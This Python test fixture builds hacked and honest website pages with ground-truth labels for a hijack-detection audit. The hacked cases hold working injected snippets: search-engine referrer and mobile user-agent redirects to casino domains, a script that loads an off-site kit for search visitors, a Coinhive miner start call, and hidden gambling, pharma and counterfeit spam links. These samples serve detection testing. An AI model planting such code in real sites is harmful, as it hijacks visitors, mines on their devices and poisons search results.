"""Hijacked and honest pages for the third hijack audit, with the truth.

Not the cases of tests/realistic_hijack.py and tests/realistic_hijack2.py (every CSS
hiding technique of a style attribute, obfuscated referrer redirects, title/keyword
hijacks, masks on spam words, noscript, parasite pages, UA cloaking): here what those
leave out, from how sites are actually found hacked:

- a title stuffed with gambling words in plain text (no entities, no keywords) that a
  script puts back for visitors; the meta description alone stuffed;
- the 2013-era referrer snippet every Chinese kit copied (`var regexp=/\\.(sogou|soso|
  baidu|...)/ig`), a referrer check that loads the kit's script instead of
  redirecting, and a redirect for mobile visitors only, to a casino;
- a compromised third-party script (polyfill.io, bought in 2024 and made to send
  mobile visitors to betting sites) and a crypto-miner (Coinhive, as the Browsealoud
  accessibility widget carried it onto government sites in 2018);
- the Japanese keyword hack and the pharma hack on English sites: links to spam pages
  planted on the site itself, in a hidden block; counterfeit-goods spam (replica
  watches, スーパーコピー) that no spam list named;
- 友情链接 as logo images whose alt and title carry the spam (no text at all), and
  one-dot links with the spam in their title; keyword text (no links) in <noscript>;
- dark links hidden by `line-height:0;overflow:hidden`, and by an id rule with
  !important in a <style> block written in the body;
- a defacement banner over a homepage that is otherwise intact.

And honest pages that look close: a 反诈 (anti-fraud) article listing the fraudsters'
words, a 福利彩票 issuing centre announcing the end of 时时彩, an American state
gaming regulator licensing sports betting and online casinos, an off-canvas mobile
menu moved off-screen by the page's own stylesheet.

Each `Case` (tests/realistic_hijack.py) holds a site's pages and its truth. The clock
is tests/realistic_hijack.NOW.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.realistic_hijack import (
    CN_SPAM,
    EN_DOMAIN,
    NEWS,
    Case,
    _items,
    ago,
    council,
    links,
    list_page,
    portal,
    site_pages,
)

REGULATOR_HOST = "www.gaming.nj-state.gov"


# --- hacked ------------------------------------------------------------------------------


def title_restored() -> Case:
    """The served title is spam in plain text (what Baidu indexes); a script sets the
    county's name back for visitors. Keywords and description are the county's."""
    return Case(
        "h3-title",
        site_pages(
            portal(
                title="澳门新葡京娱乐场_澳门威尼斯人官网_北京赛车开奖直播_青溪县人民政府",
                head='<script>document.title="青溪县人民政府门户网站";</script>',
            )
        ),
        True,
        frozenset({"spam_content"}),
    )


def description_only() -> Case:
    """Only the meta description is rewritten (what Baidu shows under the title)."""
    return Case(
        "h3-description",
        site_pages(
            portal(
                description="澳门威尼斯人官网-澳门威尼斯人娱乐场(www.wnsr888.com)是亚洲最大的真人"
                "百家乐平台,提供北京赛车、幸运飞艇、时时彩、体育投注,注册即送彩金"
            )
        ),
        True,
        frozenset({"spam_content"}),
    )


CLASSIC_REFERRER = (
    "var regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|"
    "sooule|niuhu|biso|360|so|sm)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;"
    "if(regexp.test(where)){window.location.href='http://www.js3399.com/?from=gov'}"
)


def classic_referrer() -> Case:
    """The snippet copied into thousands of hacked pages since 2013: a regex of search
    engines tested against document.referrer."""
    return Case(
        "h3-regex-referrer",
        site_pages(portal(head_top=f'<script type="text/javascript">{CLASSIC_REFERRER}</script>')),
        True,
        frozenset({"offsite_redirect"}),
    )


def referrer_loads_script() -> Case:
    """Visitors from a search engine get the kit's script (which shows the casino over
    the page); others get nothing. No location is set in the page itself."""
    js = (
        "(function(){var r=document.referrer.toLowerCase();"
        "if(r.indexOf('baidu.com')>-1||r.indexOf('sogou.com')>-1||r.indexOf('so.com')>-1"
        "||r.indexOf('sm.cn')>-1){document.write('<script type=\"text/javascript\" "
        'src="https://js.tz-cdn77.com/tj/common.js"><\\/script>\');}})();'
    )
    return Case(
        "h3-referrer-script",
        site_pages(portal(head_top=f"<script>{js}</script>")),
        True,
        frozenset({"hidden_links"}),
        note="finding code debatable: the script it loads does the redirect; what the "
        "page shows is an off-site script written for search-engine visitors only",
    )


def mobile_redirect() -> Case:
    """Phones (what Baidu's mobile index and most visitors use) go to a casino."""
    js = (
        "var ua=navigator.userAgent.toLowerCase();"
        "if(/(iphone|ipod|ipad|android|mobile|ucbrowser|mqqbrowser)/i.test(ua)){"
        'window.location.replace("https://m.am8899.com/?c=qx");}'
    )
    return Case(
        "h3-mobile",
        site_pages(portal(head_top=f"<script>{js}</script>")),
        True,
        frozenset({"offsite_redirect"}),
    )


def polyfill() -> Case:
    """The polyfill.io script every template copied; the domain was sold in 2024 and
    its script sent mobile visitors to betting sites. Nothing else changed."""
    head = (
        '<script src="https://polyfill.io/v3/polyfill.min.js?features=default%2CPromise"></script>'
    )
    return Case(
        "h3-polyfill",
        site_pages(portal(head=head)),
        False,
        note="clean: millions of pages copied the tag years before the domain was sold "
        "(4 of the devset's 200 real article pages carry it); a reference alone is a "
        "supply-chain risk, not a break-in (a config can list the host as risky)",
    )


def miner() -> Case:
    """A Coinhive miner as the compromised Browsealoud script left it (2018)."""
    tail = (
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
        "<script>var miner = new CoinHive.Anonymous('1GdQGpY1pivrGlVHSp5P2IIr9cyTzzXq', "
        "{throttle: 0.3});miner.start();</script>"
    )
    return Case(
        "h3-miner",
        site_pages(portal(before_body_end=tail)),
        True,
        frozenset({"hidden_links"}),
        note="finding code debatable: a miner is not a link; no finding names scripts",
    )


JP_SPAM = (
    "ルイヴィトン 財布 スーパーコピー",
    "ロレックス スーパーコピー 激安通販",
    "エルメス バーキン 偽物",
    "シャネル バッグ コピー 代引き",
    "グッチ 財布 スーパーコピー n級品",
    "オメガ 時計 偽物 激安",
    "カルティエ ブランドコピー 通販",
    "プラダ 財布 コピー 激安",
)


def japanese_keyword_hack() -> Case:
    """The Japanese keyword hack on an English council site: pages of Japanese
    counterfeit-goods spam planted under the site, linked from a block off-screen."""
    block = (
        '<div style="position:absolute;left:-9999px;top:-9999px">'
        + " ".join(f'<a href="/?p={n:04d}">{text}</a>' for n, text in enumerate(JP_SPAM))
        + '<a href="https://www.kopi-brand777.com/">スーパーコピー ブランド 専門店</a></div>'
    )
    return Case(
        "h3-japanese",
        {"/": council(hidden=block)},
        True,
        frozenset({"hidden_links", "spam_content"}),
        host=f"h3-japanese.{EN_DOMAIN}",
    )


PHARMA = (
    "buy cialis online no prescription",
    "generic viagra 100mg",
    "order tramadol overnight",
    "buy xanax without prescription",
    "levitra best price",
    "buy ambien online",
    "cheap propecia",
    "kamagra oral jelly",
)


def pharma_hack() -> Case:
    """The WordPress pharma hack: links to pharmacy pages planted in the site's own
    uploads folder, in a display:none block (every link on the site itself)."""
    block = (
        '<div style="display:none">'
        + " ".join(
            f'<a href="/wp-content/uploads/2019/04/{"-".join(t.split()[:3])}.html">{t}</a>'
            for t in PHARMA
        )
        + "</div>"
    )
    return Case(
        "h3-pharma",
        {"/": council(hidden=block)},
        True,
        frozenset({"spam_content"}),
        host=f"h3-pharma.{EN_DOMAIN}",
        note="no off-site link: the spam pages are the site's own (no hidden_links)",
    )


def counterfeit_footer() -> Case:
    """Replica-goods links in a tiny footer line (1px, the page's background colour)."""
    pairs = (
        ("replica watches", "https://www.replica-watches-uk.co/"),
        ("rolex replica", "https://www.rolexreplica.to/"),
        ("cheap jerseys", "https://www.cheapjerseys-wholesale.com/"),
        ("louis vuitton outlet", "https://www.lv-outlet-online.net/"),
        ("cheap ugg boots", "https://www.uggs-clearance.org/"),
        ("michael kors outlet", "https://www.mk-outlet-store.us/"),
    )
    block = f'<p style="font-size:1px;color:#ffffff">{links(pairs)}</p>'
    return Case(
        "h3-replica",
        {"/": council(hidden=block)},
        True,
        frozenset({"hidden_links", "spam_content"}),
        host=f"h3-replica.{EN_DOMAIN}",
    )


def image_links() -> Case:
    """友情链接 as logo images: the spam is in alt and title, no text at all."""
    logos = "".join(
        f'<a href="{url}" target="_blank" title="{text}官网"><img src="/images/yqlj/{n}.jpg" '
        f'alt="{text}" width="180" height="50"></a>'
        for n, (text, url) in enumerate(CN_SPAM[:6])
    )
    friends = f'<div class="yqlj"><span>友情链接：</span>{logos}</div>'
    return Case(
        "h3-img-alt",
        site_pages(portal(friends=friends)),
        True,
        frozenset({"spam_content"}),
        note="visible image links: what a visitor sees are logos; the words are in "
        "alt and title, where Baidu reads them",
    )


def title_dots() -> Case:
    """Links of one dot each (hardly seen), the spam in their title attribute."""
    dots = " ".join(f'<a href="{url}" title="{text}娱乐城官网">.</a>' for text, url in CN_SPAM[:6])
    return Case(
        "h3-title-dots",
        site_pages(portal(footer_extra=f'<span class="dots">{dots}</span>')),
        True,
        frozenset({"spam_content"}),
        note="visible, if barely: six dots; the words are in the links' titles",
    )


def noscript_text() -> Case:
    """Keyword text (no links) in <noscript>: what Baidu's spider, which runs no
    script, reads as the page; no visitor sees it."""
    block = (
        "<noscript><h1>澳门新葡京娱乐场官网</h1><p>澳门新葡京娱乐场提供真人百家乐、北京赛车pk10、"
        "时时彩、六合彩、体育投注，注册送彩金，首存送100%。</p></noscript>"
    )
    return Case(
        "h3-noscript-text",
        site_pages(portal(body_top=block)),
        True,
        frozenset({"spam_content"}),
    )


def line_height_zero() -> Case:
    block = f'<div style="line-height:0;overflow:hidden">{links(CN_SPAM[:6])}</div>'
    return Case(
        "h3-line-height",
        site_pages(portal(footer_extra=block)),
        True,
        frozenset({"hidden_links", "spam_content"}),
    )


def id_rule_important() -> Case:
    """An id rule with !important in a <style> block written in the body, two selectors."""
    block = (
        '<style type="text/css">#a_lk20240317 , div#yq_b{ position : absolute !important;'
        " top:-6000px !important; left:-6000px !important }</style>"
        f'<div id="a_lk20240317">{links(CN_SPAM[:5])}</div>'
    )
    return Case(
        "h3-id-rule",
        site_pages(portal(before_body_end=block)),
        True,
        frozenset({"hidden_links", "spam_content"}),
    )


def defacement_banner() -> Case:
    """A banner at the top of an intact homepage (title and columns untouched)."""
    banner = (
        '<div style="background:#000;color:#0f0;text-align:center;padding:20px">'
        "<h1>Hacked by Sh4d0w-Xpl0it</h1><p>Your security is just an illusion. "
        "We are Anonymous Sec Team. Greetz to all members.</p></div>"
    )
    return Case(
        "h3-deface-banner",
        site_pages(portal(body_top=banner)),
        True,
        frozenset({"spam_content"}),
    )


def police_friend_links() -> Case:
    """A 公安局 site (an authority: its own gambling words are reports) whose 友情链接
    the kit filled with casino links, visible."""
    friends = '<div class="yqlj"><span>友情链接：</span>' + links(CN_SPAM) + "</div>"
    return Case(
        "h3-police-links",
        site_pages(portal(title="青溪县公安局", name="青溪县公安局", friends=friends)),
        True,
        frozenset({"spam_content"}),
    )


# --- honest ------------------------------------------------------------------------------


def anti_fraud() -> Case:
    """A 公安局 反诈宣传 article that names the fraudsters' bait (贷款, 刷单, 裸聊...)."""
    article = (
        '<div class="article"><h2>反诈宣传｜这十种电信网络诈骗，一定要看清！</h2>'
        f'<div class="info">发布时间：{ago(1).isoformat()} 来源：县公安局反诈中心</div>'
        "<p>近期，我县电信网络诈骗案件仍处高发态势。县反诈中心梳理了十种常见类型，请广大群众牢记。</p>"
        "<p>一、刷单返利类。以“兼职刷单、足不出户日赚数百”为诱饵，先小额返利，后以“任务未完成”为由拒绝提现。</p>"
        "<p>二、虚假网络贷款类。在网上发布“无抵押贷款”“低息秒下款”“黑户也能贷”等广告，以交纳"
        "“保证金”“解冻费”为由骗取钱财。正规贷款放款前不收取任何费用。</p>"
        "<p>三、网络游戏虚假交易类。四、冒充电商物流客服类。五、冒充公检法类。</p>"
        "<p>六、裸聊敲诈类。以交友为名诱导受害人下载聊天软件进行视频裸聊，录制视频后以散布相要挟。</p>"
        "<p>七、网络赌博类。诱导受害人在“百家乐”“时时彩”等网站下注，先让赢后让输，最终无法提现。</p>"
        "<p>八、信用卡套现、代还类。自称可以“信用卡套现”“代还”，骗取卡号和验证码。</p>"
        "<p>九、虚假投资理财类。十、虚假征信类。</p>"
        "<p>牢记“三不一多”：未知链接不点击，陌生来电不轻信，个人信息不透露，转账汇款多核实。"
        "如遇可疑情况，请拨打全国反诈专线96110。</p></div>"
    )
    cols = (
        article
        + '<div class="col"><div class="hd"><h3>警务动态</h3><a class="more" href="/jwdt/">更多</a></div>'
        f"<ul>{_items('jwdt', NEWS, 1, 3)}</ul></div>"
    )
    home = portal(
        title="青溪县公安局", name="青溪县公安局", columns=cols, keywords="青溪公安,反诈宣传"
    )
    return Case(
        "c3-antifraud",
        {"/": home, "/jwdt/": list_page("jwdt", "警务动态", NEWS, 1, 3)},
        False,
    )


def welfare_lottery() -> Case:
    """A provincial 福利彩票发行中心 (a government body): its games, its outlets, and the
    notice that ended the high-frequency games (时时彩) in 2019."""
    titles = (
        "福彩快乐8第2026068期开奖公告",
        "双色球第2026030期开奖公告",
        "关于停止销售时时彩游戏的公告",
        "关于严禁利用互联网销售彩票的公告",
        "全省福利彩票销售网点布局规划公示",
        "福彩3D、七乐彩游戏规则",
        "2025年度福利彩票公益金使用情况公告",
    )
    cols = (
        '<div class="col"><div class="hd"><h3>开奖公告</h3><a class="more" href="/kjgg/">更多</a></div>'
        f"<ul>{_items('kjgg', titles, 1, 1)}</ul></div>"
        '<div class="col"><h3>网点查询</h3><p>全省现有福利彩票销售网点3200余个，请到就近的彩票网点购买。'
        "福彩从未授权任何机构或个人通过互联网销售彩票，网上购彩平台均为非法。理性购彩，量力而行，"
        "未成年人不得购买彩票。中国福利彩票发行管理中心官方网站：www.cwl.gov.cn</p></div>"
    )
    home = portal(
        title="浙江省福利彩票发行中心",
        name="浙江省福利彩票发行中心",
        columns=cols,
        keywords="福利彩票,双色球,快乐8,福彩3D,彩票网点",
        description="浙江省福利彩票发行中心官方网站：开奖公告、网点查询、公益金公告。",
    )
    return Case(
        "c3-fucai", {"/": home, "/kjgg/": list_page("kjgg", "开奖公告", titles, 1, 1)}, False
    )


def betting_regulator() -> Case:
    """An American state's gaming regulator: sports betting and online casinos are what
    it licenses."""
    news = (
        (2, "Division announces record sports betting revenue for February"),
        (6, "New online casino and online poker operators approved for licensing"),
        (9, "Responsible gaming: new self-exclusion program for sportsbook and casino patrons"),
        (13, "Enforcement action against unlicensed offshore sports betting websites"),
        (20, "Atlantic City casinos report gaming revenue; slot machine win up 4%"),
    )
    items = "".join(
        f'<li><a href="/press/{ago(d):%Y%m%d}.html">{t}</a> <time datetime="{ago(d).isoformat()}">'
        f"{ago(d):%B %d, %Y}</time></li>"
        for d, t in news
    )
    page = (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
        "<title>Division of Gaming Enforcement | Office of the Attorney General</title>"
        '<meta name="description" content="The Division of Gaming Enforcement regulates casinos, '
        'sports wagering, online casino gaming and online poker.">'
        "</head><body>"
        '<header><a href="/">Division of Gaming Enforcement</a><nav>'
        '<a href="/licensing/">Licensing</a><a href="/internet-gaming/">Internet Gaming</a>'
        '<a href="/sports-wagering/">Sports Wagering</a><a href="/casino-control/">Casino Control</a>'
        '<a href="/responsible-gaming/">Responsible Gaming</a></nav></header>'
        f'<main><section><h2>Press Releases</h2><ul>{items}</ul><a href="/press/">More press releases</a></section>'
        "<section><h2>Authorized online casino and sports betting sites</h2>"
        "<p>Only licensed operators may offer online casino games, online poker and sports "
        "betting in the state. Check that a sportsbook or online casino is on the list of "
        "authorized sites before you play. Roulette, baccarat, blackjack and slot machine "
        "games offered online must be approved by the Division.</p></section>"
        "<section><h2>Problem gambling</h2><p>If you or someone you know has a gambling problem, "
        "call 1-800-GAMBLER.</p></section></main>"
        '<footer><a href="https://www.nj.gov/">State portal</a> <a href="https://www.1800gambler.net/">'
        "1-800-GAMBLER</a><p>&copy; Office of the Attorney General</p></footer></body></html>"
    )
    return Case("c3-regulator", {"/": page}, False, host=REGULATOR_HOST)


def offcanvas_menu() -> Case:
    """A mobile off-canvas menu the page's stylesheet keeps off-screen until the menu
    button is tapped: the site's columns and a few national sites."""
    style = (
        "<style>.m-offcanvas{position:fixed;top:0;left:-9999px;width:80%;height:100%;"
        "background:#fff;z-index:999}.m-offcanvas.open{left:0}</style>"
    )
    menu = (
        '<div class="m-offcanvas" id="mmenu"><a href="/">首页</a><a href="/zwdt/">政务动态</a>'
        '<a href="/tzgg/">通知公告</a><a href="/zcwj/">政策文件</a>'
        '<a href="https://www.zjzwfw.gov.cn/">浙江政务服务网</a><a href="https://www.xuexi.cn/">学习强国</a>'
        '<a href="http://www.wenming.cn/">中国文明网</a><a href="https://www.12371.cn/">共产党员网</a></div>'
        '<a class="m-btn" href="javascript:void(0)" onclick="document.getElementById(\'mmenu\')'
        ".classList.toggle('open')\">菜单</a>"
    )
    return Case("c3-offcanvas", site_pages(portal(head=style, body_top=menu)), False)


def english_skip_and_menu() -> Case:
    """A council page with a `.visuallyhidden`-style skip link of its own naming
    (`.skip`), off-screen 'opens in a new window' labels inside external links, and a
    mobile menu hidden by display:none."""
    style = (
        "<style>.skip{position:absolute;left:-10000px;top:auto;width:1px;height:1px;overflow:hidden}"
        ".skip:focus{left:0;width:auto;height:auto}"
        ".offscreen{position:absolute;left:-9999px}</style>"
    )
    body = (
        '<a class="skip" href="#content">Skip to content</a>'
        '<section id="content"><h2>Latest news</h2><ul>'
        + "".join(
            f'<li><a href="/news/{ago(d):%Y/%m}/n{d}">{t}</a> <time>{ago(d):%d %B %Y}</time></li>'
            for d, t in (
                (1, "Council tax reminders"),
                (4, "Garden waste subscriptions open"),
                (8, "Road closures this week"),
            )
        )
        + '</ul><a href="/news">More news</a></section>'
        '<ul class="partners"><li><a href="https://www.gov.uk/">GOV.UK<span class="offscreen"> '
        '(opens in a new window)</span></a></li><li><a href="https://www.nhs.uk/">NHS'
        '<span class="offscreen"> (opens in a new window)</span></a></li></ul>'
        f"{style}"
    )
    return Case("c3-skip", {"/": council(body=body)}, False, host=f"c3-skip.{EN_DOMAIN}")


HACKED: tuple[Callable[[], Case], ...] = (
    title_restored,
    description_only,
    classic_referrer,
    referrer_loads_script,
    mobile_redirect,
    polyfill,
    miner,
    japanese_keyword_hack,
    pharma_hack,
    counterfeit_footer,
    image_links,
    title_dots,
    noscript_text,
    line_height_zero,
    id_rule_important,
    defacement_banner,
    police_friend_links,
)
CLEAN: tuple[Callable[[], Case], ...] = (
    anti_fraud,
    welfare_lottery,
    betting_regulator,
    offcanvas_menu,
    english_skip_and_menu,
)
CASES = HACKED + CLEAN
